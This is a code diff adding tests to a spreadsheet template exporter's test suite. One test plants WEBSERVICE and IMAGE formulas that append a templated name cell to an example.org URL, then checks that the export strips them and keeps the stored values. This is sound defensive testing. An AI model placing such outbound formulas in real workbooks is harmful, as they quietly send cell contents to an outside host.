@@ -149,6 +149,30 @@ describe('rows below the answer row', () => {
     }
   })
 
+  test('lose formulas that could reach outside the workbook, but keep their stored values', async () => {
+    const { sheet } = await exported((template) => {
+      template.getCell('A4').value = '{{fullName}}'
+      template.getCell('B6').value = { formula: 'WEBSERVICE("https://example.org/?"&A4)', result: 'stored' }
+      template.getCell('C6').value = { formula: 'COUNTA(A4:A4)', result: 0 }
+      const formulae = ['IMAGE("https://example.org/?"&A4)="x"']
+      template.addConditionalFormatting({
+        ref: 'D6',
+        rules: [{ type: 'expression', priority: 1, formulae, style: { font: { bold: true } } }],
+      })
+    })
+    expect([sheet.getCell('B8').value, sheet.getCell('C8').formula]).toEqual(['stored', 'COUNTA(A4:A6)'])
+    expect(JSON.stringify(sheet.model)).not.toContain('example.org')
+  })
+
+  test('at the bottom of the sheet are left out if they have no content', async () => {
+    const { sheet } = await exported((template) => {
+      template.getCell('A4').value = '{{fullName}}'
+      template.getCell('A1048576').note = 'left by accident'
+      template.getRow(1_048_575).height = 33
+    })
+    expect(sheet.getColumn(1).values.slice(4)).toEqual(['Ana', 'Ben', 'Chi'])
+  })
+
   test('throw if they no longer fit on the sheet', async () => {
     const making = exported((template) => {
       template.getCell('A4').value = '{{fullName}}'
